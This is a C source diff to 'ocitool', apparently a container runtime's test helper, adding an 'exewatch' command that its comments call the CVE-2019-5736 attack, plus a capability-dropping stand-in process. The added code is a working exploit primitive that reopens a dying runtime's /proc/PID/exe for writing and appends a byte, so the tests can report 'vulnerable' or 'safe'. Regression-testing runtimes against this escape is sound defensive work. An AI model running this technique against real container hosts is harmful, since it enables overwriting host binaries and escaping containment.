@@ -15,6 +15,22 @@
  *                             name after it), then kills and reaps them
  *   ocitool exewrite PID      opens /proc/PID/exe for writing (no O_TRUNC, no
  *                             write): prints "ok" or the errno's name
+ *   ocitool exewatch SECS     the CVE-2019-5736 attack: for SECS seconds, scans
+ *                             /proc for processes whose executable is not
+ *                             under /bin (a runtime that entered the
+ *                             container), holds their /proc/PID/exe with
+ *                             O_PATH, and once each is gone reopens it for
+ *                             writing and appends one byte. Prints
+ *                             "watching", "caught PID EXE" per process,
+ *                             "attempts" with each one's outcome (wrote or
+ *                             an errno's name), then "result wrote" (a file
+ *                             was written: vulnerable) or "result safe";
+ *                             "result none" when nothing came
+ *   ocitool capsleep SECS     drops every capability, then sleeps: the test's
+ *                             stand-in for a vulnerable runtime (a host file
+ *                             run in the container's PID namespace, with the
+ *                             container's privileges or less), which
+ *                             exewatch must be able to write
  *   ocitool segv              dies of SIGSEGV (a fault: the kernel delivers it
  *                             even to a PID namespace's init)
  *   ocitool cgmem             the memory limit this process's cgroup has
@@ -28,11 +44,15 @@
 #include <fcntl.h>
 #include <netinet/in.h>
 #include <signal.h>
+#include <stdbool.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <dirent.h>
 #include <sys/socket.h>
+#include <sys/syscall.h>
+#include <time.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -130,6 +150,122 @@ static int do_forks(const char *count)
 	return 0;
 }
 
+#define MAX_CAUGHT 16
+
+static double now_s(void)
+{
+	struct timespec t;
+
+	clock_gettime(CLOCK_MONOTONIC, &t);
+	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
+}
+
+/* Scans /proc once; holds the exe of every new process not run from /bin. */
+static void exe_scan(int *fds, pid_t *pids, int *n, pid_t self)
+{
+	DIR *d = opendir("/proc");
+	struct dirent *e;
+
+	if (!d)
+		return;
+	while ((e = readdir(d)) && *n < MAX_CAUGHT) {
+		char path[64], link[256];
+		pid_t pid = (pid_t)atoi(e->d_name);
+		ssize_t k;
+		int fd, i;
+
+		if (pid <= 1 || pid == self)
+			continue;
+		for (i = 0; i < *n && pids[i] != pid; i++)
+			;
+		if (i < *n)
+			continue;
+		snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
+		fd = open(path, O_PATH | O_CLOEXEC);
+		if (fd < 0)
+			continue;
+		k = readlink(path, link, sizeof(link) - 1);
+		if (k <= 0 || (link[k] = 0, !strncmp(link, "/bin/", 5))) {
+			close(fd);
+			continue;
+		}
+		fds[*n] = fd;
+		pids[(*n)++] = pid;
+		printf("caught %d %s\n", (int)pid, link);
+		fflush(stdout);
+	}
+	closedir(d);
+}
+
+/* Once the process is gone, reopen its exe for writing and append a byte. */
+static const char *exe_attack(int fd, double until)
+{
+	char path[64];
+	int w, err = 0;
+
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	while (now_s() < until) {
+		w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+		if (w >= 0) {
+			ssize_t r = write(w, "x", 1);
+
+			err = errno;
+			close(w);
+			if (r == 1)
+				return "wrote";
+			return errname(err);
+		}
+		err = errno;
+		if (err != ETXTBSY)
+			return errname(err);
+		/* still running (its exe is write-denied until it is gone) */
+		usleep(2000);
+	}
+	return errname(err);
+}
+
+static int do_exewatch(const char *secs)
+{
+	double until = now_s() + atof(secs);
+	int fds[MAX_CAUGHT], n = 0, i;
+	pid_t pids[MAX_CAUGHT], self = getpid();
+	bool wrote = false;
+
+	printf("watching\n");
+	fflush(stdout);
+	while (now_s() < until && n == 0)
+		exe_scan(fds, pids, &n, self);
+	/* the first one caught: keep scanning briefly for its siblings */
+	for (double t = now_s() + 0.05; n && now_s() < t;)
+		exe_scan(fds, pids, &n, self);
+	if (n == 0) {
+		printf("result none\n");
+		return 0;
+	}
+	printf("attempts");
+	for (i = 0; i < n; i++) {
+		const char *r = exe_attack(fds[i], now_s() + 10);
+
+		wrote |= !strcmp(r, "wrote");
+		printf(" %s", r);
+	}
+	printf("\nresult %s\n", wrote ? "wrote" : "safe");
+	return 0;
+}
+
+static int do_capsleep(const char *secs)
+{
+	struct { uint32_t version; int pid; } hdr = { 0x20080522, 0 };	/* _LINUX_CAPABILITY_VERSION_3 */
+	struct { uint32_t effective, permitted, inheritable; } data[2] = { { 0, 0, 0 }, { 0, 0, 0 } };
+
+	if (syscall(SYS_capset, &hdr, data) < 0) {
+		printf("capset %s\n", errname(errno));
+		return 1;
+	}
+	usleep((useconds_t)(atof(secs) * 1e6));
+	return 0;
+}
+
 static int do_exewrite(const char *pid)
 {
 	char path[64];
@@ -224,10 +360,14 @@ int main(int argc, char **argv)
 		return do_forks(argv[2]);
 	if (argc == 3 && !strcmp(argv[1], "exewrite"))
 		return do_exewrite(argv[2]);
+	if (argc == 3 && !strcmp(argv[1], "exewatch"))
+		return do_exewatch(argv[2]);
+	if (argc == 3 && !strcmp(argv[1], "capsleep"))
+		return do_capsleep(argv[2]);
 	if (argc == 2 && !strcmp(argv[1], "segv"))
 		return *(volatile int *)(uintptr_t)(argc - 2);
 	if (argc == 2 && !strcmp(argv[1], "cgmem"))
 		return do_cgmem();
-	fprintf(stderr, "usage: ocitool connect IP PORT | alloc MIB | forks N | exewrite PID | segv | cgmem\n");
+	fprintf(stderr, "usage: ocitool connect IP PORT | alloc MIB | forks N | exewrite PID | exewatch SECS | capsleep SECS | segv | cgmem\n");
 	return 2;
 }
